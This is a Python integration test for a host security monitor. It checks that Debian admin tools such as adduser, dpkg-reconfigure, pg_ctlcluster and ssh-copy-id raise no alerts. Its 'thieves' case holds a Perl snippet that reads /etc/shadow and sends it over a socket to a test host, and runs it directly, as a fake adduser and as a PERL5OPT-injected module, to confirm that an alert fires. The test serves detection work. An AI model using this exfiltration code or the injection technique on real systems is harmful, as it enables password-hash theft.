#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""No alerts under the default policy: scripts of Debian that open a sensitive file, among them each Perl script of root
that looks up a user, and what uses the network after them. Beside them the same file in the hands of a script that no
rule names, and of one of these that was made to run other code."""

import glob
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

import scene as stage
import own_scripts
from scene import URL, USERS
from sshd import Server

import harness
import tap
from net import HOST_V4
from tap import Skip, require

POSTGRESQL_PORT = 54329
CONFIGURE_TIMEOUT = 180 * tap.SLOW
LOCALE = "en_US.UTF-8"

# What dpkg-reconfigure changes outside /etc.
OVERLAYS = """
for d in /var/cache/debconf /var/lib/dpkg /usr/lib/locale; do
    mkdir -p "$1/over$d" "$1/work$d"
    mount -t overlay -o "lowerdir=$d,upperdir=$1/over$d,workdir=$1/work$d" overlay "$d"
done
"""
PERL_SENDS = f"""
use IO::Socket::INET;
open(my $file, "<", "/etc/shadow") or die; my $secret = join "", <$file>;
my $to = IO::Socket::INET->new("{HOST_V4}:443") or die; print $to $secret; close $to;
"""


def fetch(s, user="root", **environment):
    out = s.silent(["curl", "-sS", URL], user, **environment)
    require("hello" in out, f"curl said {out!r}")


def debconf(s):
    """localedef writes an archive that every program of this language maps."""
    if not os.path.exists("/var/lib/dpkg/info/locales.postinst"):
        raise Skip("locales is not installed", environment=True)
    s.world.do("sh", "-ec", OVERLAYS, "sh", f"{s.world.root}/world")
    s.world.do("debconf-set-selections", stdin=f"locales locales/locales_to_be_generated multiselect {LOCALE} UTF-8\n"
               f"locales locales/default_environment_locale select {LOCALE}\n")
    s.world.do("sh", "-c", f"echo {LOCALE} UTF-8 >/etc/locale.gen")
    s.silent(["dpkg-reconfigure", "-f", "noninteractive", "locales"], timeout=CONFIGURE_TIMEOUT)
    require(LOCALE.lower().replace("-", "") in s.world.do("locale", "-a").lower().replace("-", ""), "no such locale")
    for user in USERS:
        fetch(s, user, LC_ALL=LOCALE)


def postgresql(s):
    """pg_ctlcluster looks up the owner of the cluster before it starts the server."""
    found = sorted(glob.glob("/usr/lib/postgresql/*/bin/initdb"))
    if not found or not os.path.exists("/usr/bin/pg_ctlcluster"):
        raise Skip("postgresql is not installed", environment=True)
    version = found[-1].split("/")[4]
    s.world.do("sh", "-ec", "install -d -o postgres -g postgres -m 2775 /run/postgresql /var/log/postgresql")
    with s.silence():
        s.run(["pg_createcluster", "-p", str(POSTGRESQL_PORT), "-d", f"{s.world.root}/world/pg", version, "trial", "--",
               "-A", "trust"], timeout=CONFIGURE_TIMEOUT)
        try:
            for how in ("start", "restart"):
                result = s.run(["pg_ctlcluster", version, "trial", how], timeout=CONFIGURE_TIMEOUT)
                require(result.returncode == 0, f"{how}: {result.stdout}{result.stderr}")
            for user in USERS:
                result = s.run(["psql", "-h", "127.0.0.1", "-p", str(POSTGRESQL_PORT), "-U", "postgres", "-tAc",
                                "select 6 * 7"], user)
                require(result.stdout == "42\n", f"psql as {user}: {result.stdout}{result.stderr}")
        finally:
            s.run(["pg_ctlcluster", "-m", "immediate", version, "trial", "stop"], timeout=CONFIGURE_TIMEOUT)
    fetch(s)


def accounts(s):
    s.silent(["adduser", "--quiet", "--disabled-password", "--gecos", "", "--home", f"{s.world.root}/home/eve", "eve"])
    fetch(s, "eve")
    s.silent(["deluser", "--quiet", "eve"])
    fetch(s)


def copy_id(s, server, user):
    """It opens the private key to see whether it may, and copies the public one."""
    home = s.world.home_of(user)
    s.world.do("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", f"{home}/.ssh/id_new", user=user)
    # With the other key as an option it would find that it can log in.
    options = server.options(user)
    at = options.index(f"IdentityFile={home}/.ssh/id_ed25519")
    del options[at - 1:at + 1]
    s.silent(["ssh-copy-id", "-i", f"{home}/.ssh/id_new.pub", *options, f"{user}@{HOST_V4}"], user)
    new = s.world.do("cat", f"{home}/.ssh/id_new.pub", user=user).split()[1]
    require(new in s.world.do("cat", f"{home}/.ssh/authorized_keys", user=user), "the key was not copied")
    s.theft(f"{home}/.ssh/id_new", "ssh-private-keys")


def stolen(s, command, comm, **environment):
    before = len(s.bw.alerts)
    result = s.run(command, **environment)
    alert = s.bw.wait(lambda: next((a for a in s.bw.alerts[before:] if harness.touches(a, b"/etc/shadow") and
                                    a["destination"]["address"] == HOST_V4), None), harness.ALERT_TIMEOUT,
                      f"{command}: {result.returncode} {result.stderr}")
    require(alert["severity"] == "high" and comm in alert["process"]["cmdline"], f"the alert: {alert}")


def thieves(s):
    stolen(s, ["perl", "-e", PERL_SENDS], "perl")
    home = s.world.home_of("root")
    script = s.world.write("root", "bin/adduser", f"#!/usr/bin/perl -wT\n{PERL_SENDS}", 0o755)
    stolen(s, [script], "adduser")
    s.world.write("root", "lib/Thief.pm", f"package Thief;\n{PERL_SENDS}\n1;\n")
    stolen(s, ["adduser", "--version"], "adduser", PERL5OPT="-MThief", PERL5LIB=f"{home}/lib")
    # The rightful script as data of the interpreter, with other code before it.
    stolen(s, ["perl", f"-I{home}/lib", "-MThief", "/usr/sbin/adduser", "--version"], "adduser")


def main():
    t = tap.Tap()
    with stage.scene() as s:
        t.case("accounts: adduser, deluser", accounts, s)
        t.case("debconf: dpkg-reconfigure locales, and programs in that language", debconf, s)
        t.case("PostgreSQL: a cluster is made and restarted, and clients connect", postgresql, s)
        with Server(s) as server:
            for user in USERS:
                t.case(f"ssh-copy-id as {user}", copy_id, s, server, user)
        t.case("thieves: other Perl code reads the same file", thieves, s)
        own_scripts.cases(t, s)
        t.case("no loss", stage.no_loss, s.bw)
    t.done()


if __name__ == "__main__":
    main()
